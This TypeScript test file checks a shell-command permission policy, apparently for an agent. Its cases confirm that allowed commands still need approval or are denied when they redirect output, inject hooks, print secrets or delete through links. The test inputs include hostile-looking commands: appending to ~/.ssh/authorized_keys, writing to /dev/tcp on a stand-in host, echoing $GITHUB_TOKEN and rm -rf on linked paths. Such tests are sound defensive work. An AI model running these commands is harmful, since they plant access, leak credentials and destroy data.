import { expect, test } from 'vitest'
import { stackOf } from '../../src/policy/evaluate.ts'
import { readPolicy } from '../../src/policy/read-policy.ts'
import { decisionOf, shimContext } from '../helpers/shims.ts'

const rules = () => {
  const user = readPolicy({ commands: { allow: ['git commit', 'echo', 'npm run', 'python3 -c'] } }, { name: 'user', level: 'user' })
  if (!user.ok) throw new Error(user.failure.message)
  return { policies: stackOf({ user: user.value }) }
}

// a name that is allowed covered whatever a redirection wrote, and whatever code an option ran
test.each([
  ['git commit -m x', 'allow'],
  ['git commit --amend --no-edit', 'allow'],
  ['npm run build', 'allow'],
  ["python3 -c 'print(1)'", 'allow'],
  ['echo hi 2>/dev/null', 'allow'],
  ['git commit -m x > notes.md', 'ask'],
  ['echo key >> ~/.ssh/authorized_keys', 'ask'],
  ['echo x > /dev/tcp/orchard.example/80', 'ask'],
  ['git -c core.hooksPath=/tmp/x commit -m x', 'ask'],
  ['npm run build --script-shell=/tmp/x', 'ask'],
  ['python3 prune.py', 'ask'],
])('with its name allowed, %s is %s', (line, decision) => {
  expect(decisionOf(line, shimContext, rules())).toBe(decision)
})

test.each([
  ['echo $GITHUB_TOKEN', 'ask'],
  ['printf "%s" "${DB_PASSWORD}"', 'ask'],
  ['echo "$HOME/$USER"', 'allow'],
  ['test -n "$GITHUB_TOKEN" && echo set', 'allow'],
  ['GITHUB_TOKEN=none; echo "$GITHUB_TOKEN"', 'allow'],
])('what is printed matters, and what is only looked at does not: %s is %s', (line, decision) => {
  expect(decisionOf(line)).toBe(decision)
})

test('a command that fd starts gets what fd finds', () => {
  expect(decisionOf('fdfind . -x cat')).toBe('allow')
  expect(decisionOf('fdfind . -x tee')).toBe('ask')
})

test('a link that is deleted lies where it lies, and not where it leads', () => {
  const linked = { ...shimContext, realpath: (path: string) => path.replace('/project/link', '/elsewhere') }
  expect(decisionOf('rm -rf link', linked)).toBe('ask')
  expect(decisionOf('rm -rf link/', linked)).toBe('deny')
  expect(decisionOf('rm -rf link/seeds', linked)).toBe('deny')
})
